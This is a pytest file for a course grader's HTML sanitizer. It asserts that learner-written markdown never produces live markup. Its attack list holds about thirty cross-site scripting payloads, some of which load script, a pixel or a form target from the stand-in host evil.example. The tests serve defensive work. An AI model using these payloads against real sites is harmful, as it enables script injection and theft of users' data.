"""Nothing a learner wrote becomes live in a page the instructor opens."""

from html.parser import HTMLParser

import pytest

from grader.gradebook.safehtml import TAGS, markdown2html
from grader.gradebook.safetext import fenced


class Strict(HTMLParser):
    """Reads a page as a browser would and lists every tag and attribute that has no business there."""

    def __init__(self, html):
        super().__init__()
        self.odd = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.odd += [] if tag in TAGS | {"div"} else [tag]
        self.odd += [(tag, *attribute) for attribute in attrs if not self.harmless(*attribute)]

    @staticmethod
    def harmless(name, value):
        web = name == "href" and value.startswith(("https://", "http://", "mailto:", "#"))
        return name in ("class", "title") or web


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<svg/onload="alert(1)">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    '[x](https://ok.example "onclick=alert(1)")',
    '[x](https://ok.example "\\" onmouseover=alert(1) y=\\"")',
    "![x](javascript:alert(1))",
    "![x](attachment:none.png)",
    "![x](https://evil.example/pixel.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```<script>alert(1)</script>\nx\n```",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "$\\href{javascript:alert(1)}{x}$",
    "\\begin{x}\\href{javascript:alert(1)}{x}\\end{x}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<style>*{background:url(https://evil.example)}</style>",
    "<form action=https://evil.example><input name=p></form>",
    "<!-- --><script>alert(1)</script>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("wrap", [str, fenced], ids=["as it is", "as the grader shows it"])
def test_no_text_of_a_learner_becomes_live_in_formgrader(attack, wrap):
    assert Strict(markdown2html(wrap(attack))).odd == []


def test_the_reader_of_these_tests_sees_what_is_live():
    assert Strict("<script>1</script><p onclick=x><a href='javascript:1'>").odd == [
        "script", ("p", "onclick", "x"), ("a", "href", "javascript:1"),
    ]  # fmt: skip


def test_a_text_cannot_end_the_block_it_is_shown_in():
    text = "one\n````\ntwo\n```````\n# three"
    html = markdown2html(fenced(text))
    assert html.count("<pre>") == 1
    assert "<h1>" not in html


def test_mathematics_stays_text():
    assert "mathjax_ignore" in markdown2html("$x$")
    assert "tex2jax_ignore" in markdown2html("$x$")


def test_plain_markdown_of_the_course_is_still_shown():
    html = markdown2html("# Title\n\n*Note* [law](https://law.example)\n\n* one")
    assert "<h1>Title</h1>" in html
    assert '<a href="https://law.example">law</a>' in html
    assert "<li>" in html
